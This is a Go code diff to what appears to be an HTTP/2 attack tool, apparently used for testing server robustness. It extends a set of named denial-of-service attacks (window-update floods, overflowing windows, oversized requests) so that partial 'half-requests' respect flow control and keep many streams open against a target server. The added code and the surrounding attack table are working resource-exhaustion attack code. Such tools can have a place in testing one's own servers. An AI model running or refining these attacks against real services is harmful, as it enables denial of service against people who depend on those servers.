@@ -6,6 +6,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"strings"
+	"sync"
 	"time"
 
 	"golang.org/x/net/http2"
@@ -21,6 +22,36 @@ type attacker struct {
 	block      bytes.Buffer
 	encoder    *hpack.Encoder
 	stream     uint32
+	// windows are what may be sent, of the connection under 0.
+	windows map[uint32]int
+	changed sync.Cond
+}
+
+// take waits until so many octets may be sent.
+func (a *attacker) take(stream uint32, octets int) error {
+	a.changed.L.Lock()
+	defer a.changed.L.Unlock()
+	if _, known := a.windows[stream]; !known {
+		a.windows[stream] = 65535
+	}
+	late := time.AfterFunc(5*time.Second, func() { a.update(0, -1<<30) })
+	defer late.Stop()
+	for a.windows[0] < octets || a.windows[stream] < octets {
+		if a.windows[0] < -1<<20 {
+			return fmt.Errorf("no window")
+		}
+		a.changed.Wait()
+	}
+	a.windows[0] -= octets
+	a.windows[stream] -= octets
+	return nil
+}
+
+func (a *attacker) update(stream uint32, octets int) {
+	a.changed.L.Lock()
+	defer a.changed.L.Unlock()
+	a.windows[stream] += octets
+	a.changed.Broadcast()
 }
 
 func dial(chosen *options) *attacker {
@@ -34,6 +65,8 @@ func dial(chosen *options) *attacker {
 		fail(err)
 	}
 	a := &attacker{Framer: http2.NewFramer(connection, connection), connection: connection, stream: 1}
+	a.windows = map[uint32]int{0: 65535}
+	a.changed.L = &sync.Mutex{}
 	a.encoder = hpack.NewEncoder(&a.block)
 	return a
 }
@@ -101,13 +134,29 @@ var attacks = map[string]func(*attacker) error{
 	},
 	"window-updates":     func(a *attacker) error { return a.WriteWindowUpdate(0, 1) },
 	"overflowing-window": func(a *attacker) error { return a.WriteWindowUpdate(0, 1<<31-1) },
-	// Requests that say to be large, of which the beginning comes, in ever more streams.
+	// Requests that say to be large, of which the beginning comes, in many streams, as far as flow control lets them.
 	"half-requests": func(a *attacker) error {
+		data := make([]byte, 16000)
+		stream := 1 + a.stream/4*2%2000
+		a.stream += 2
+		if _, known := a.windows[stream]; !known {
+			if err := a.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.headers(), EndHeaders: true}); err != nil {
+				return err
+			}
+			copy(data, []byte{0, 0, 0x3f, 0xff, 0xff})
+		}
+		if err := a.take(stream, len(data)); err != nil {
+			return err
+		}
+		return a.WriteData(stream, false, data)
+	},
+	// The same without a look at what may be sent.
+	"without-window": func(a *attacker) error {
 		stream, err := a.open()
 		if err != nil {
 			return err
 		}
-		return a.WriteData(stream, false, append([]byte{0, 0, 0x3f, 0xff, 0xff}, make([]byte, 10000)...))
+		return a.WriteData(stream, false, make([]byte, 16000))
 	},
 	"too-long-request": func(a *attacker) error {
 		stream, err := a.open()
@@ -152,6 +201,9 @@ func attack(chosen *options) {
 				if err != nil {
 					ended <- err.Error()
 					return
+				}
+				if update, ok := frame.(*http2.WindowUpdateFrame); ok {
+					a.update(update.StreamID, int(update.Increment))
 				}
 				if goaway, ok := frame.(*http2.GoAwayFrame); ok {
 					ended <- fmt.Sprintf("GOAWAY %s %s", goaway.ErrCode, goaway.DebugData())
